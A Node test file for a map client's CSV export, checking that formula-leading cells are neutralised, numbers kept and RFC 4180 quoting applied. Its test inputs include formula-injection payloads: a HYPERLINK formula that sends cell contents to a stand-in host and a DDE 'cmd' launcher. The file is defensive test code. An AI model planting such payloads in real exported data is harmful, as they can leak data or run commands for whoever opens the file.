// The map client's CSV cells (web/src/csv-cells.js): no cell a spreadsheet would run
// as a formula, numbers kept, quoting as RFC 4180 wants. Pure: runs in Node.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { csvCell, formulaSafe, toCsv } from '../../web/src/csv-cells.js';

test('every formula start is neutralised', () => {
  for (const cell of ['=HYPERLINK("http://x.example/?"&A1,"点击")', '+cmd|\' /C calc\'!A0', '-2+3', '-', '@SUM(A1:A2)',
    '\t=1+1', '\r=1+1', '=1', '--1', '-1e']) {
    assert.equal(formulaSafe(cell), `'${cell}`, JSON.stringify(cell));
  }
});

test('numbers and ordinary text are kept', () => {
  for (const cell of ['-2', '+3', '-0.5', '0.5', '.5', '5.', '1e5', '-1.5E-3', '969000.00', '猗氏镇', '无变化', '', 'a=b', ' =1']) {
    assert.equal(formulaSafe(cell), cell, JSON.stringify(cell));
  }
  assert.equal(csvCell(-2), '-2');
  assert.equal(csvCell(null), '');
});

test('a CSV file has a BOM, CRLF lines, quoted and neutralised cells', () => {
  const text = toCsv([['id', 'change'], ['=HYPERLINK("http://x.example","a")', -2], ['\r=1', '+cmd']]);
  assert.equal(text, '\uFEFFid,change\r\n"\'=HYPERLINK(""http://x.example"",""a"")",-2\r\n"\'\r=1",\'+cmd\r\n');
});
